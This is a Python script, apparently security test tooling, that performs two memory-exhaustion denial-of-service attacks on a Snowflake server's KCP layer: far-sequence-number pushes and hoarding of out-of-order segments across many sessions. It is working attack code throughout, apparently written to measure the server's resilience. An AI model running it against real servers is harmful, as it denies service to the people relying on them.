#!/usr/bin/env python3
"""KCP memory attacks on a Snowflake server, spoken by hand (WebSocket upgrade, turbotunnel token
and ClientID, encapsulated KCP packets; helpers from flood.py). docs/security.md, "KCP".

  kcp_attack.py --addr HOST:PORT far N        N sessions, each one 24-byte PUSH at sn 65534
                                              (the receive-ring amplification PoC)
  kcp_attack.py --addr HOST:PORT hoard N MIB  N sessions, each sending MIB MiB of out-of-order
                                              full segments (sn 0 never sent)

The sockets stay open until stdin closes (or --timeout), so the caller can measure the server
meanwhile. Prints one JSON line when the attack was sent ("sent"), then waits."""
import argparse
import json
import os
import select
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import flood  # noqa: E402

MSS = 1376


def session(addr):
    s = flood.ws_connect(addr, 10)
    s.sendall(flood.ws_frame_zero_mask(flood.TOKEN + os.urandom(8)))
    return s


def far(args):
    socks = []
    refused = 0
    for _ in range(args.n):
        try:
            s = session(args.addr)
            conv = struct.unpack("<I", os.urandom(4))[0]
            s.sendall(flood.ws_frame_zero_mask(flood.encap(flood.kcp_push(conv, 65534, b""))))
            socks.append(s)
        except OSError:
            refused += 1
    return socks, {"sessions": len(socks), "closed_by_server": refused}


def hoard_one(addr, segs, payload):
    s = session(addr)
    conv = struct.unpack("<I", os.urandom(4))[0]
    batch = []
    for sn in range(1, segs + 1):
        batch.append(flood.ws_frame_zero_mask(flood.encap(flood.kcp_push(conv, sn, payload))))
        if len(batch) == 256:
            s.sendall(b"".join(batch))
            batch = []
    if batch:
        s.sendall(b"".join(batch))
    return s


def hoard(args):
    socks = []
    segs = int(args.mib * (1 << 20) / MSS)
    payload = b"h" * MSS
    refused = 0
    for _ in range(args.n):
        # A server under memory pressure may close a new client's WebSocket after its preamble.
        try:
            socks.append(hoard_one(args.addr, segs, payload))
        except OSError:
            refused += 1
    return socks, {"sessions": len(socks), "segments_each": segs, "closed_by_server": refused}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addr", required=True)
    ap.add_argument("--timeout", type=float, default=120)
    ap.add_argument("mode", choices=["far", "hoard"])
    ap.add_argument("n", type=int)
    ap.add_argument("mib", type=float, nargs="?", default=0)
    args = ap.parse_args()
    end = time.time() + args.timeout
    socks, out = {"far": far, "hoard": hoard}[args.mode](args)
    out.update(mode=args.mode, sent=True)
    print(json.dumps(out), flush=True)
    # Hold the sessions (draining what the server sends) until stdin closes or the timeout.
    for s in socks:
        s.setblocking(False)
    while time.time() < end:
        r, _, _ = select.select([sys.stdin] + socks, [], [], 0.5)
        if sys.stdin in r and not sys.stdin.readline():
            break
        for s in r:
            if s is not sys.stdin:
                try:
                    if not s.recv(65536):
                        socks.remove(s)
                except OSError:
                    socks.remove(s)
    for s in socks:
        s.close()


if __name__ == "__main__":
    sys.exit(main())
